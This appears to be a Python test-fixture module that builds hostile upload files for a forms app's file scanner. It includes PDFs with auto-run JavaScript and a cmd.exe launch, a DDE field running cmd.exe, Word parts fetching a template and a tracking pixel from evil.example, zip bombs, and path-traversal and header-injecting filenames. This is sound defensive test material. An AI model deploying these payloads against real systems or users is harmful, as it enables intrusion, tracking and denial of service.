"""Files that somebody might send to do harm, made here so that no scanner minds this repository."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from forms_app.services.file_dangers import EICAR

CONTENT_TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE_LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PDF_END = b"trailer << /Root 1 0 R >>\n%%EOF\n"


def pdf(*objects: bytes) -> bytes:
    """Return a small PDF with these objects."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, start=1))
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + (body or b"1 0 obj\n<< /Type /Catalog >>\nendobj\n") + PDF_END


def packed_pdf(hidden: bytes) -> bytes:
    """Return a PDF that keeps objects in a packed stream, where a plain look does not find them."""
    stream = zlib.compress(b"1 0 " + hidden)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
    return pdf(b"<< /Type /Catalog >>", head + stream + b"\nendstream")


def archive(entries: dict[str, bytes | str], *, packed: bool = True) -> bytes:
    """Return a zip archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return out.getvalue()


def docx(more: dict[str, bytes | str] | None = None) -> bytes:
    """Return a Word document with further parts."""
    parts = {"[Content_Types].xml": CONTENT_TYPES.format(""), "word/document.xml": "<w:document/>"}
    return archive({**parts, **(more or {})})


def xlsx(more: dict[str, bytes | str] | None = None) -> bytes:
    """Return a workbook with further parts."""
    parts = {"[Content_Types].xml": CONTENT_TYPES.format(""), "xl/workbook.xml": "<workbook/>"}
    return archive({**parts, **(more or {})})


def relation(kind: str, target: str) -> str:
    """Return a part with a link to another place."""
    link = f'<Relationship Id="r1" Type="{OFFICE_LINK}{kind}" Target="{target}" TargetMode="External"/>'
    return RELS.format(link)


def png(width: int = 4, height: int = 4) -> bytes:
    """Return a picture."""
    out = io.BytesIO()
    Image.new("RGB", (width, height)).save(out, "PNG")
    return out.getvalue()


def jpg() -> bytes:
    """Return a photograph."""
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, "JPEG")
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """Return a tiny file that claims to be an enormous picture."""
    head = b"IHDR" + struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    whole = png()
    return whole[:8] + struct.pack("!I", 13) + head + struct.pack("!I", zlib.crc32(head)) + whole[33:]


def locked_zip() -> bytes:
    """Return an archive whose entry says that it is encrypted."""
    made = bytearray(archive({"a.txt": "secret"}))
    made[6] |= 1
    directory = made.index(b"PK\x01\x02")
    made[directory + 8] |= 1
    return bytes(made)


def ole(mark: str) -> bytes:
    """Return an old office file that has a part of this name."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + mark.encode("utf-16-le") + b"\0" * 512


HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
BOMB = archive(
    {"word/document.xml": b"\0" * (320 * 1024 * 1024 // 16)}
    | {f"word/{n}.xml": b"\0" * (20 * 1024 * 1024) for n in range(3)}
)
DDE = '<w:document><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:document>'

# name, content, why it is refused
HOSTILE: list[tuple[str, bytes, str]] = [
    ("eicar.pdf", pdf(EICAR + b"$H+H*"), "malware"),
    ("eicar-in.zip", archive({"a.txt": EICAR + b"$H+H*"}), "program"),
    ("page-and-pdf.pdf", b"%PDF-1.7\n" + HTML + pdf(), "content"),
    ("late-header.pdf", HTML + pdf(), "content"),
    ("archive-and-pdf.pdf", pdf() + archive({"a.txt": "x"}), "content"),
    ("archive-and-picture.png", png() + archive({"a.txt": "x"}), "content"),
    ("page.pdf", HTML, "content"),
    ("program.pdf", b"MZ\x90\x00" + b"\0" * 400, "content"),
    ("program.exe", b"MZ\x90\x00" + b"\0" * 400, "kind"),
    ("two-endings.pdf.exe", pdf(), "kind"),
    ("picture.pdf", png(), "content"),
    ("document.png", pdf(), "content"),
    ("drawing.svg", SVG, "kind"),
    ("drawing.png", SVG, "content"),
    ("empty.pdf", b"", "empty"),
    ("large.pdf", pdf() + b"0" * (1024 * 1024), "too_large"),
    ("script.pdf", pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), "active"),
    ("hidden-name.pdf", pdf(b"<< /OpenAction << /S /J#61vaScript /J#53 (x) >> >>"), "active"),
    ("hidden-script.pdf", packed_pdf(b"<< /OpenAction << /S /JavaScript /JS (x) >> >>"), "active"),
    ("launch.pdf", pdf(b"<< /OpenAction << /S /Launch /F (cmd.exe) >> >>"), "active"),
    ("locked.pdf", pdf() + b"trailer << /Encrypt 5 0 R >>\n%%EOF", "encrypted"),
    ("packed-bomb.pdf", packed_pdf(b"\0" * (70 * 1024 * 1024)), "bomb"),
    ("macros.docm", docx({"word/vbaProject.bin": b"x"}), "kind"),
    ("macros.docx", docx({"word/vbaProject.bin": b"x"}), "macros"),
    (
        "declared.docx",
        docx(
            {
                "[Content_Types].xml": CONTENT_TYPES.format(
                    '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
                )
            }
        ),
        "macros",
    ),
    ("macros.doc", ole("_VBA_PROJECT"), "macros"),
    ("locked.doc", ole("EncryptedPackage"), "encrypted"),
    (
        "template.docx",
        docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t.dotm")}),
        "external",
    ),
    (
        "tracker.docx",
        docx({"word/_rels/document.xml.rels": relation("image", "http://evil.example/pixel.png")}),
        "external",
    ),
    ("object.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "active"),
    ("dde.docx", docx({"word/document.xml": DDE}), "active"),
    (
        "dde.xlsx",
        xlsx({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
        "active",
    ),
    ("sheet4.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    ("text.docx", archive({"hello.txt": "x"}), "content"),
    ("broken.docx", b"PK\x03\x04 broken", "content"),
    ("bomb.docx", BOMB, "bomb"),
    ("many.zip", archive({f"{number}.txt": "" for number in range(2500)}), "bomb"),
    ("nested.zip", archive({"inner.zip": archive({"a.txt": "x"})}), "nested"),
    ("disguised.zip", archive({"inner.txt": archive({"a.txt": "x"}, packed=False)}), "program"),
    ("program.zip", archive({"open-me.exe": b"MZ"}), "program"),
    ("pages.zip", archive({"index.html": HTML}), "program"),
    ("script.zip", archive({"a.pdf": pdf(b"<< /S /JavaScript /JS (x) >>")}), "active"),
    ("paths.zip", archive({"../../etc/passwd": "x"}), "paths"),
    ("drive.zip", archive({"C:/windows/x.txt": "x"}), "paths"),
    ("locked.zip", locked_zip(), "encrypted"),
    ("bomb.png", png_claiming(60_000, 60_000), "pixels"),
    ("cut.png", png()[:40], "content"),
    ("no-ending", pdf(), "kind"),
    ("...", pdf(), "name"),
    ("\0", pdf(), "name"),
]

# Names that mislead: kept, but under a harmless one.
NAMES: list[tuple[str, str]] = [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\win.pdf", "win.pdf"),
    ("/etc/cron.d/job.pdf", "job.pdf"),
    ("C:\\temp\\合同.pdf", "合同.pdf"),
    ("a\0b.pdf", "ab.pdf"),
    ("gpj.\u202efdp.pdf", "gpj.fdp.pdf"),
    ("line\r\nSet-Cookie: x=1.pdf", "lineSet-Cookie_ x=1.pdf"),
    ("CON.pdf", "_CON.pdf"),
    ("lpt1.pdf", "_lpt1.pdf"),
    ('"><img src=x>.pdf', "___img src=x_.pdf"),
    (".htaccess.pdf", "htaccess.pdf"),
    ("甲" * 300 + ".pdf", "甲" * 196 + ".pdf"),
]

# What offices really send must pass.
ORDINARY: list[tuple[str, bytes]] = [
    ("合同（盖章）.pdf", pdf(b"<< /Type /Catalog /Names << /EmbeddedFiles 2 0 R >> >>")),
    ("packed.pdf", packed_pdf(b"<< /Type /Page >>")),
    ("照片.jpg", jpg()),
    ("照片.png", png(400, 300)),
    ("letter.docx", docx({"word/_rels/document.xml.rels": relation("hyperlink", "https://example.com/")})),
    ("台账.xlsx", xlsx({"xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", "other.xlsx")})),
    ("letter.doc", ole("WordDocument")),
    ("材料.zip", archive({"说明.txt": "好", "合同.pdf": pdf(), "照片/一.jpg": jpg(), "表.xlsx": xlsx()})),
]
